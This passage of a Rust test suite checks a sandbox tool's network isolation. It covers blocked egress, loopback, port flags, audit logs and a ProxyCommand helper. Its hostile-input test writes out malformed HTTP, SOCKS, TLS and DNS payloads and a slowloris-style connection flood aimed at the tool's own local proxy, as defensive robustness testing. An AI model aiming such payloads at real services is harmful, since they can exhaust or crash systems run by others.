    let script = format!(
        r#"
res("proxy_env", sorted(k for k in os.environ if k.lower().endswith("_proxy")))
attempt("ip", lambda: tcp("{ip}", 80))
attempt("proxy", lambda: tcp("127.0.0.1", 3128))
attempt("socks", lambda: tcp("127.0.0.1", 1080))
attempt("name", lambda: socket.create_connection(("{NAME}", 80), timeout=10))
def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.sendto(b"no-network", ("{ip}", 53))
    return s.recv(10)
attempt("udp", udp)
"#
    );
    let r = t.py(&["--no-network"], &script);
    assert_eq!(
        r.get("proxy_env"),
        "[]",
        "--no-network must not set proxy variables\n{}",
        r.show()
    );
    for k in ["ip", "proxy", "socks", "name"] {
        r.assert_fails_fast(k, "--no-network: nothing but loopback, and no proxy");
    }
    assert!(!r.get("udp").starts_with("ok:"), "{}", r.show());
    t.assert_nothing_reached("--no-network", &r.show());
}

#[test]
fn loopback_services_inside_talk() {
    let Some(t) = NetTest::new("loopback") else {
        return;
    };
    let script = r#"
import threading
def serve():
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(1)
    port = srv.getsockname()[1]
    def run():
        c, _ = srv.accept()
        c.sendall(b"inside:" + c.recv(100))
        c.close()
    threading.Thread(target=run, daemon=True).start()
    s = tcp("127.0.0.1", port)
    s.sendall(b"hello")
    return s.recv(100).decode()
attempt("loop", serve)
"#;
    let pol = t.std_policy(&[NAME], &[CIDR_ALL], &[]);
    for opts in [vec!["-p", pol.as_str()], vec!["--no-network"]] {
        let r = t.py(&opts, script);
        r.assert_ok(
            "loop",
            "inside:hello",
            &format!("a server and a client on the sandbox's loopback ({opts:?})"),
        );
    }
}

#[test]
fn host_port_reaches_host_loopback_only_when_asked() {
    let Some(t) = NetTest::new("host-port") else {
        return;
    };
    let host = HostListener::start();
    let p = host.port;
    let script = format!(
        r#"
def talk():
    s = tcp("127.0.0.1", {p})
    s.sendall(b"MARK")
    return must(recv_all(s)).decode("latin1")
attempt("talk", talk)
"#
    );
    let denied = t.py(&[], &script.replace("MARK", "no-flag"));
    denied.assert_fails_fast(
        "talk",
        "the host's loopback is out of reach without --host-port",
    );
    assert!(
        host.hits().is_empty(),
        "the host's 127.0.0.1:{p} was reached without --host-port: {:?}\n{}",
        host.hits(),
        denied.show()
    );
    let ok = t.py(
        &["--host-port", &p.to_string()],
        &script.replace("MARK", "with-flag"),
    );
    ok.assert_ok("talk", "host-listener-ok", "--host-port PORT (twin)");
    let hits = host.hits();
    assert!(
        hits.iter().any(|h| h.contains("with-flag")) && !hits.iter().any(|h| h.contains("no-flag")),
        "the host listener should have seen exactly the --host-port run: {hits:?}"
    );
}

/// Run a sandboxed server on 127.0.0.1:PORT (with or without `--publish PORT`) and try to
/// reach it from the host; returns (what the host got, cordon's output).
fn publish_run(t: &NetTest, publish: bool) -> (Result<String, String>, String) {
    let port = free_port();
    let ready = t.sb.ws.join("ready");
    let quit = t.sb.ws.join("quit");
    let server = format!(
        "import socket, os, time\nprint('CORDON-IT-RAN', flush=True)\n\
         s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n\
         s.bind(('127.0.0.1', {port})); s.listen(4); s.settimeout(0.2)\n\
         open('ready', 'w').close()\nend = time.time() + 30\n\
         while time.time() < end and not os.path.exists('quit'):\n\
         \x20   try:\n\x20       c, _ = s.accept()\n\x20   except OSError:\n\x20       continue\n\
         \x20   c.settimeout(5); d = c.recv(100); c.sendall(b'published-ok ' + d); c.close(); break\n"
    );
    let port_s = port.to_string();
    let mut cmd = t.sb.cordon_command();
    cmd.arg("run");
    if publish {
        cmd.args(["--publish", &port_s]);
    }
    cmd.args(["--", "python3", "-c", &server])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let mut child = cmd.spawn().expect("spawn cordon");
    // Stop waiting early if cordon already exited (e.g. refused the flag).
    let mut exited = false;
    let started = wait_for(Duration::from_secs(20), || {
        exited = exited || matches!(child.try_wait(), Ok(Some(_)));
        ready.exists() || exited
    }) && ready.exists();
    let got = if !started {
        Err("the sandboxed server never became ready".to_string())
    } else {
        let attempt = || -> std::io::Result<String> {
            let mut s = TcpStream::connect_timeout(
                &format!("127.0.0.1:{port}")
                    .parse()
                    .expect("literal address"),
                Duration::from_secs(5),
            )?;
            s.set_read_timeout(Some(Duration::from_secs(5)))?;
            s.write_all(b"from-host")?;
            let mut buf = String::new();
            s.read_to_string(&mut buf)?;
            Ok(buf)
        };
        // cordon may open the host side a moment after the command starts.
        let mut last = attempt();
        for _ in 0..10 {
            if matches!(&last, Ok(s) if s.contains("published-ok")) || !publish {
                break;
            }
            std::thread::sleep(Duration::from_millis(200));
            last = attempt();
        }
        last.map_err(|e| e.to_string())
    };
    let _ = fs::write(&quit, "");
    let status = wait_timeout(&mut child, Duration::from_secs(40));
    if status.is_none() {
        let _ = child.kill();
        let _ = child.wait();
    }
    let mut output = String::new();
    if let Some(mut o) = child.stdout.take() {
        let _ = o.read_to_string(&mut output);
    }
    if let Some(mut e) = child.stderr.take() {
        let _ = e.read_to_string(&mut output);
    }
    (got, format!("status={status:?}\n{output}"))
}

#[test]
fn publish_exposes_inside_server_only_when_asked() {
    let Some(t) = NetTest::new("publish") else {
        return;
    };
    let (got, out) = publish_run(&t, false);
    assert!(
        !matches!(&got, Ok(s) if s.contains("published-ok")),
        "the host reached a sandboxed server without --publish: {got:?}\n{out}"
    );
    let _ = fs::remove_file(t.sb.ws.join("ready"));
    let _ = fs::remove_file(t.sb.ws.join("quit"));
    let (got, out) = publish_run(&t, true);
    assert!(
        matches!(&got, Ok(s) if s.contains("published-ok from-host")),
        "--publish PORT must let the host reach the sandboxed server: {got:?}\n{out}"
    );
}

// ---------------------------------------------------------------- audit

#[test]
fn audit_records_network_events() {
    let Some(t) = NetTest::new("audit") else {
        return;
    };
    let deny_ip = t.net.alloc();
    let pol = t.std_policy(&[NAME], &[CIDR_ALL], &[("denied.test.example", &deny_ip)]);
    let audit = t.sb.root.join("audit.jsonl");
    let audit_s = audit.display().to_string();
    let a = tok("audit");
    let script = format!(
        "{}{}",
        curl("ok", &format!("http://{NAME}{a}")),
        curl("deny", "http://denied.test.example/audit-deny")
    );
    let out = t.sh(&["-p", &pol, "--audit", &audit_s], &script);
    assert_code(&out, "ok", "200", "allowed request");
    assert_code(&out, "deny", "403", "denied request");
    let lines = audit_lines(&audit);
    let net_event = |decision: &str, target: &str| {
        lines.iter().any(|l| {
            l["event"] == "net"
                && l["decision"] == decision
                && l["target"]
                    .as_str()
                    .is_some_and(|s| s.trim_end_matches('.').eq_ignore_ascii_case(target))
        })
    };
    let dump: String = lines.iter().map(|l| format!("  {l}\n")).collect();
    assert!(
        net_event("allow", NAME),
        "no \"event\":\"net\" allow line for {NAME} in the audit log:\n{dump}"
    );
    assert!(
        net_event("deny", "denied.test.example"),
        "no \"event\":\"net\" deny line for denied.test.example in the audit log:\n{dump}"
    );
}

// ---------------------------------------------------------------- hostile input

#[test]
fn hostile_input_does_not_break_the_door() {
    let Some(t) = NetTest::new("hostile") else {
        return;
    };
    let pol = t.std_policy(&[NAME], &[CIDR_ALL], &[]);
    let (fin, during) = (tok("after-hostile"), tok("during-slowloris"));
    let script = format!(
        r#"
def junk(port, data, shut=False):
    s = tcp("127.0.0.1", port)
    try:
        s.sendall(data)
        if shut:
            s.shutdown(socket.SHUT_WR)
    except OSError as e:
        return "closed while sending (%s)" % type(e).__name__
    try:
        got = recv_all(s, 4096)
    except ConnectionError:
        got = b""
    s.close()
    return got.split(b"\r\n", 1)[0].decode("latin1") or "closed"
attempt("bad_line", junk, 3128, b"GARBAGE \x00\xff\xfe nonsense\r\n\r\n")
attempt("big_header", junk, 3128, b"GET http://{NAME}/big HTTP/1.1\r\nHost: {NAME}\r\nConnection: close\r\nX-Big: " + b"a" * 102400 + b"\r\n\r\n")
attempt("endless_headers", junk, 3128, b"GET http://{NAME}/endless HTTP/1.1\r\nHost: {NAME}\r\n" + b"X-A: b\r\n" * 20000)
attempt("huge_connect", junk, 3128, b"CONNECT " + b"a" * 70000 + b".test.example:443 HTTP/1.1\r\n\r\n")
attempt("socks_garbage", junk, 1080, b"\x05\xff" + bytes(range(256)) * 2)
attempt("socks4", junk, 1080, b"\x04\x01\x00\x50\x7f\x00\x00\x01user\x00", True)
attempt("socks_trunc", junk, 1080, b"\x05\x01\x00\x05\x01\x00\x03\xff" + b"a" * 10, True)
def after_connect(port, data, shut):
    s = proxy_connect("{NAME}", port)
    s.sendall(data)
    if shut:
        s.shutdown(socket.SHUT_WR)
    return recv_all(s, 4096)[:60]
attempt("hello_trunc", after_connect, 443, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 20, True)
attempt("hello_huge", after_connect, 443, b"\x16\x03\x01\xff\xff\x01\xff\xff\xfb" + b"\x00" * 70000, False)
attempt("raw_on_443", after_connect, 443, b"SSH-2.0-OpenSSH_9.2\r\n" + bytes(range(256)), False)
attempt("http_wrong_host_on_443", after_connect, 443, b"GET /x HTTP/1.1\r\nHost: {OTHER_NAME}\r\n\r\n", False)
attempt("http_right_host_on_443", after_connect, 443, b"GET /x HTTP/1.1\r\nHost: {NAME}\r\n\r\n", False)
def dns_junk():
    out = []
    for pkt in (b"\xff" * 3, bytes(range(256)) * 2, b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\xc0\x0c\x00\x01\x00\x01"):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(1)
        s.sendto(pkt, ("127.0.0.1", 53))
        try:
            out.append(len(s.recv(4096)))
        except OSError as e:
            out.append(type(e).__name__)
    return out
attempt("dns_junk", dns_junk)
slow = []
for i in range(20):
    s = tcp("127.0.0.1", 3128)
    s.sendall(b"GET http://{NAME}/slow HTTP/1.1\r\nX-a: ")
    slow.append(s)
attempt("during_slowloris", plain_get, "127.0.0.1", 3128, "http://{NAME}{during}", "{NAME}")
attempt("final_proxy", lambda: __import__("urllib.request").request.urlopen("http://{NAME}{fin}", timeout=15).read().decode())
attempt("final_dns", dns_query, "{NAME}")
"#
    );
    let r = t.py(&["-p", &pol], &script);
    assert_eq!(
        r.out().code,
        0,
        "the sandboxed script must finish\n{}",
        r.show()
    );
    for k in [
        "bad_line",
        "big_header",
        "endless_headers",
        "huge_connect",
        "socks_garbage",
        "socks4",
        "socks_trunc",
        "hello_trunc",
        "hello_huge",
        "raw_on_443",
        "http_wrong_host_on_443",
        "http_right_host_on_443",
        "dns_junk",
    ] {
        let v = r.get(k);
        let secs: f64 = r.get(&format!("{k}.secs")).parse().unwrap_or(99.0);
        assert!(
            v != "timeout" && secs < 12.0,
            "{k}: hostile input must get an error and a closed connection in bounded time, got {v:?} after {secs} s\n{}",
            r.show()
        );
        // A 100 KiB header may legitimately be forwarded; everything else must be refused.
        assert!(
            k == "big_header" || (!v.contains(" 200 ") && !v.contains("cordon-it-ok")),
            "{k}: hostile input must not succeed: {v:?}\n{}",
            r.show()
        );
    }
    r.assert_ok(
        "bad_line",
        "HTTP/1.1 4",
        "a malformed request line gets a 4xx",
    );
    r.assert_ok(
        "during_slowloris",
        &during,
        "slow clients must not stall other connections",
    );
    r.assert_ok(
        "final_proxy",
        &fin,
        "a normal request after the hostile ones",
    );
    r.assert_ok("final_dns", "addrs=240.", "the DNS stub after the junk");
    t.assert_request("http", &fin, &r.show());
    let seen = t.seen();
    // Proxied tunnels connect before they answer, so the server may see connections; none
    // may carry a byte (Python reports a connection closed before any byte as EOF).
    let empty = |x: &&serde_json::Value| {
        x["srv"] == "pkt"
            || x["ev"] == "accept"
            || (x["ev"] == "tls-fail"
                && x["sni"].is_null()
                && x["err"].as_str().is_some_and(|e| e.contains("EOF")))
    };
    let bad: Vec<_> = seen
        .iter()
        .filter(|x| x["srv"] == "https" || x["dport"] == 443)
        .filter(|x| !empty(x))
        .collect();
    assert!(
        bad.is_empty(),
        "a malformed ClientHello / raw bytes / plain HTTP on 443 reached the server:\n{bad:?}\n{}",
        r.show()
    );
}

/// `cordon connect HOST PORT` (the ProxyCommand in GIT_SSH_COMMAND) goes through the door:
/// an allowed name:port reaches the server, a denied one does not.
#[test]
fn cordon_connect_proxycommand_follows_policy() {
    let Some(t) = NetTest::new("connect-cmd") else {
        return;
    };
    let pol = t.std_policy(&[], &[CIDR_ALL], &[]);
    let out = t.sh(
        &["-p", &pol, "--allow-domain", &format!("{NAME}:7")],
        &format!(
            "echo $GIT_SSH_COMMAND | grep -q 'connect %h %p' && echo SSH-CMD-SET; \
             bin=$(echo $GIT_SSH_COMMAND | sed -e \"s/.*ProxyCommand='\\([^ ]*\\) connect.*/\\1/\"); \
             printf 'via-cordon-connect' | timeout 10 $bin connect {NAME} 7 | head -c 18; echo; \
             printf 'denied' | timeout 10 $bin connect {OTHER_NAME} 7; echo DENIED-RC=$?"
        ),
    );
    assert!(
        out.stdout.contains("SSH-CMD-SET"),
        "GIT_SSH_COMMAND must use cordon connect\n{}",
        out.show()
    );
    assert!(
        out.stdout.contains("via-cordon-connect"),
        "cordon connect to an allowed name:port must work\n{}",
        out.show()
    );
    assert!(
        out.stdout.contains("DENIED-RC=1"),
        "cordon connect to a denied destination must fail\n{}",
        out.show()
    );
    assert!(
        out.stderr.contains("refused"),
        "the failure must say why\n{}",
        out.show()
    );
}
